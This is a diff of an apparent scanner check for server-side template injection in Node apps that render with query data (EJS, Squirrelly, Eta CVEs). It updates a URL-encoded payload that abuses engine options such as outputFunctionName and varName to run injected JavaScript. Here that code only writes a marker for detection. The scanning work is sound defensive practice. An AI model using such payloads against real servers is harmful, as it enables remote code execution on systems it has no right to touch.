@@ -3,7 +3,7 @@
 What it finds
     Pages of Node that render with the query as data (`res.render("card", req.query)`), by an engine that reads its options out of
     the data and writes one of them into the code that it makes of the template (EJS up to 3.1.6: CVE-2022-29078; Squirrelly:
-    CVE-2021-32819).
+    CVE-2021-32819; Eta before 2.0: CVE-2022-25967).
 
 Why it matters
     What is written there runs as code of the server, whatever the template itself does with its values.
@@ -37,13 +37,14 @@ CWE = (1336, 94)
 THREAT = 95
 _GOOD = 200
 _LETTERS = "bcdfghjklmnpqrstvwxz"
-# cache: neither the framework nor the engine keeps the code. What a plus sign says in a query is a blank. A parameter that
-# is taken apart has what stands for a missing part computed, which writes over all that this page is made of.
+# cache: neither the framework nor the engine keeps the code. What a plus sign says in a query is a blank. What stands
+# for a missing parameter is computed where its name opens a scope, and writes over all that this page is made of.
 _OPTIONS = (
     b"&cache=&settings%5Bview%20options%5D%5Bcache%5D="
     b"&settings%5Bview%20options%5D%5BoutputFunctionName%5D=a%3D1%3B__append(%22WORD%22%2BSUM)%3Bb"
     b"&settings%5Bview%20options%5D%5BvarName%5D="
-    b"%7Bzz%3D(()%3D%3E%7Bfor(let%20k%20in%20arguments%5B0%5D)arguments%5B0%5D%5Bk%5D%3D%22WORD%22%2BSUM%7D)()%2C...it%7D"
+    b"it%3D(()%3D%3E%7Bfor(let%20k%20in%20it)it%5Bk%5D%3D%22WORD%22%2BSUM%3Breturn%20it%7D)()"
+    b"&settings%5Bview%20options%5D%5BuseWith%5D=1"
 )
 TIMES, NO_TIMES = b"%2A", b"%20"
 
